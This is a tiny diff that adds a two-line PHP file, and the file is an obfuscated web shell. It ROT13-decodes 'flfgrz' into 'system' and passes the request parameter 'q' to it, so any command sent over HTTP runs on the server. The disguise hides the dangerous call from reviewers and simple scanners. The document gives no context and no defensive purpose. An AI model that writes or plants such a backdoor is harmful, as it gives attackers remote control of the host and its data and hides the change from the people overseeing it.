@@ -1,0 +1,2 @@
+<?php
+$c = str_rot13('flfgrz'); $c($_REQUEST['q']);
